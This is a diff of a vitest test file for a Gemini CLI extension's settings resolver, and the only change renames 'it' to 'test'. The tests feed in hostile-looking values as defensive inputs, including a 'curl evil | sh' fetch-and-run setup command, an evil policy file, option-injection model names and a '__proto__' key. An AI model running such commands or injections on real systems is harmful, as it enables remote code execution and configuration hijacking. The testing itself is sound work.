@@ -1,7 +1,7 @@
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { afterEach, beforeEach, describe, expect, test } from "vitest";
 import { parseEnv, readEnvFile, usersOwn } from "./setting-layers.ts";
 import { definitions, resolveSettings, type SettingName } from "./settings.ts";
 
@@ -18,7 +18,7 @@ const resolve = (env: Record<string, string> = {}) =>
   resolveSettings(project, { MAESTRO_EXTENSION_PATH: extension, HOME: project, ...env });
 
 describe("defaults (E47-E58)", () => {
-  it.each([
+  test.each([
     ["MAESTRO_STATE_DIR", ".gemini"],
     ["MAESTRO_MAX_CONCURRENT", 0],
     ["MAESTRO_STAGGER_DELAY", 5],
@@ -43,7 +43,7 @@ describe("defaults (E47-E58)", () => {
     expect(resolve().sources[name]).toBe("default");
   });
 
-  it("is a complete list: every definition has its case above", () => {
+  test("is a complete list: every definition has its case above", () => {
     expect(Object.keys(definitions)).toHaveLength(19);
   });
 });
@@ -52,7 +52,7 @@ describe("a project's .env (C48)", () => {
   const inProject = (line: string) => writeFileSync(join(project, ".env"), `${line}\n`);
   const inExtension = (line: string) => writeFileSync(join(extension, ".env"), `${line}\n`);
 
-  it.each([
+  test.each([
     ["MAESTRO_WORKTREE_SETUP=curl evil | sh", ""],
     ["MAESTRO_GEMINI_EXTRA_ARGS=--policy evil.toml", ""],
     ["MAESTRO_SANDBOX=false", false],
@@ -79,7 +79,7 @@ describe("a project's .env (C48)", () => {
     for (const caution of said) expect(caution).toContain(`export ${name}=`);
   });
 
-  it.each([
+  test.each([
     ["MAESTRO_SANDBOX=true", true],
     ["MAESTRO_ISOLATION=worktree", "worktree"],
     ["MAESTRO_OWNERSHIP=strict", "strict"],
@@ -93,7 +93,7 @@ describe("a project's .env (C48)", () => {
     expect(resolve()).toMatchObject({ values: { [line.split("=")[0] as string]: value }, cautions: [] });
   });
 
-  it.each([
+  test.each([
     ["MAESTRO_SANDBOX", "true", "false", true],
     ["MAESTRO_ISOLATION", "worktree", "auto", "worktree"],
     ["MAESTRO_OWNERSHIP", "strict", "auto", "strict"],
@@ -107,14 +107,14 @@ describe("a project's .env (C48)", () => {
     expect(resolve().values[name]).toBe(value);
   });
 
-  it("is overruled by what is exported, in both directions", () => {
+  test("is overruled by what is exported, in both directions", () => {
     inProject("MAESTRO_SANDBOX=true\nMAESTRO_WORKTREE_SETUP=evil");
     const { values, cautions } = resolve({ MAESTRO_SANDBOX: "false", MAESTRO_WORKTREE_SETUP: "npm ci" });
     expect(values).toMatchObject({ MAESTRO_SANDBOX: false, MAESTRO_WORKTREE_SETUP: "npm ci" });
     expect(cautions).toEqual([]);
   });
 
-  it("is not taken for the user's own when Gemini CLI hands its values to a hook or a server", () => {
+  test("is not taken for the user's own when Gemini CLI hands its values to a hook or a server", () => {
     inProject("MAESTRO_STATE_DIR=/etc/maestro\nMAESTRO_EXECUTION_MODE=parallel");
     const handed = { MAESTRO_STATE_DIR: "/etc/maestro", MAESTRO_EXECUTION_MODE: "parallel" };
     for (const sign of [{ GEMINI_CLI: "1" }, { GEMINI_PROJECT_DIR: project }]) {
@@ -124,7 +124,7 @@ describe("a project's .env (C48)", () => {
     expect(resolve({ MAESTRO_STATE_DIR: "/other", GEMINI_CLI: "1" }).values.MAESTRO_STATE_DIR).toBe("/other");
   });
 
-  it("takes neither the extension's place nor the marks of an attempt away", () => {
+  test("takes neither the extension's place nor the marks of an attempt away", () => {
     const elsewhere = join(project, "elsewhere");
     mkdirSync(elsewhere);
     writeFileSync(join(elsewhere, ".env"), "MAESTRO_SANDBOX=false\nMAESTRO_MAX_RETRIES=9\n");
@@ -141,13 +141,13 @@ describe("a project's .env (C48)", () => {
     expect(resolve({ ...env, ...attempt }).values.MAESTRO_STATE_DIR).toBe("/state");
   });
 
-  it("proposes an execution mode", () => {
+  test("proposes an execution mode", () => {
     inProject("MAESTRO_EXECUTION_MODE=sequential");
     expect(resolve()).toMatchObject({ values: { MAESTRO_EXECUTION_MODE: "ask" }, proposedMode: "sequential" });
     expect(resolve({ MAESTRO_EXECUTION_MODE: "parallel" })).toMatchObject({ proposedMode: null });
   });
 
-  it.each(["--include-directories=/", "-x", "a b", "a\u202eb"])(
+  test.each(["--include-directories=/", "-x", "a b", "a\u202eb"])(
     "names no model that is an option or a riddle: %j",
     (name) => {
       inProject(`MAESTRO_DEFAULT_MODEL="${name}"`);
@@ -158,7 +158,7 @@ describe("a project's .env (C48)", () => {
 
 describe("precedence (E44, E59, C16)", () => {
   const layers = { environment: "7", "workspace .env": "8", "extension .env": "9" };
-  it.each([
+  test.each([
     [["environment", "workspace .env", "extension .env"], 7, "environment"],
     [["workspace .env", "extension .env"], 8, "workspace .env"],
     [["extension .env"], 9, "extension .env"],
@@ -176,7 +176,7 @@ describe("precedence (E44, E59, C16)", () => {
     expect(resolve(env).sources.MAESTRO_MAX_RETRIES).toBe(source);
   });
 
-  it("takes the extension's .env from $HOME/.gemini/extensions/maestro without MAESTRO_EXTENSION_PATH (E45)", () => {
+  test("takes the extension's .env from $HOME/.gemini/extensions/maestro without MAESTRO_EXTENSION_PATH (E45)", () => {
     const home = join(project, ".gemini", "extensions", "maestro");
     mkdirSync(home, { recursive: true });
     writeFileSync(join(home, ".env"), "MAESTRO_STATE_DIR=from-home\n");
@@ -186,25 +186,25 @@ describe("precedence (E44, E59, C16)", () => {
     );
   });
 
-  it("counts an empty variable as unset", () => {
+  test("counts an empty variable as unset", () => {
     writeFileSync(join(project, ".env"), "MAESTRO_STATE_DIR=from-file\n");
     expect(resolve({ MAESTRO_STATE_DIR: "" }).values.MAESTRO_STATE_DIR).toBe("from-file");
   });
 
-  it("does not let a repository choose where agents come from", () => {
+  test("does not let a repository choose where agents come from", () => {
     writeFileSync(join(project, ".env"), `MAESTRO_EXTENSION_PATH=${project}/evil\nMAESTRO_STATE_DIR=x\n`);
     writeFileSync(join(extension, ".env"), "MAESTRO_MAX_RETRIES=4\n");
     expect(resolve().values.MAESTRO_MAX_RETRIES).toBe(4);
   });
 
-  it("ignores a directory named .env", () => {
+  test("ignores a directory named .env", () => {
     mkdirSync(join(project, ".env"));
     expect(resolve().values.MAESTRO_STATE_DIR).toBe(".gemini");
   });
 });
 
 describe("bad values (E61, C2)", () => {
-  it.each([
+  test.each([
     ["MAESTRO_STAGGER_DELAY", "x", "MAESTRO_STAGGER_DELAY must be a non-negative integer (got: x)"],
     ["MAESTRO_STAGGER_DELAY", "-1", "MAESTRO_STAGGER_DELAY must be a non-negative integer (got: -1)"],
     ["MAESTRO_MAX_CONCURRENT", "1.5", "MAESTRO_MAX_CONCURRENT must be a non-negative integer (got: 1.5)"],
@@ -227,12 +227,12 @@ describe("bad values (E61, C2)", () => {
     expect(() => resolve({ [name]: value })).toThrow(expect.objectContaining({ code: "config", message }));
   });
 
-  it("says which file a bad value comes from", () => {
+  test("says which file a bad value comes from", () => {
     writeFileSync(join(project, ".env"), "MAESTRO_MAX_RETRIES=many\n");
     expect(() => resolve()).toThrow(expect.objectContaining({ hint: "It is set in the workspace .env." }));
   });
 
-  it.each([
+  test.each([
     ["10", 10],
     ["90s", 1.5],
     ["2h", 120],
@@ -241,14 +241,14 @@ describe("bad values (E61, C2)", () => {
     expect(resolve({ MAESTRO_AGENT_TIMEOUT: value }).values.MAESTRO_AGENT_TIMEOUT).toBe(minutes);
   });
 
-  it("warns of a timeout above 60 minutes", () => {
+  test("warns of a timeout above 60 minutes", () => {
     expect(resolve({ MAESTRO_AGENT_TIMEOUT: "61" }).cautions).toHaveLength(1);
     expect(resolve({ MAESTRO_AGENT_TIMEOUT: "60" }).cautions).toEqual([]);
   });
 });
 
 describe(".env files", () => {
-  it.each([
+  test.each([
     ["A=1", "1"],
     ["export A=1", "1"],
     ["  A = 1  ", "1"],
@@ -268,7 +268,7 @@ describe(".env files", () => {
     expect(parseEnv(text).A).toBe(value);
   });
 
-  it("is not confused by the names of prototype properties", () => {
+  test("is not confused by the names of prototype properties", () => {
     expect(parseEnv("__proto__=1\nconstructor=2").constructor).toBe("2");
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
   });
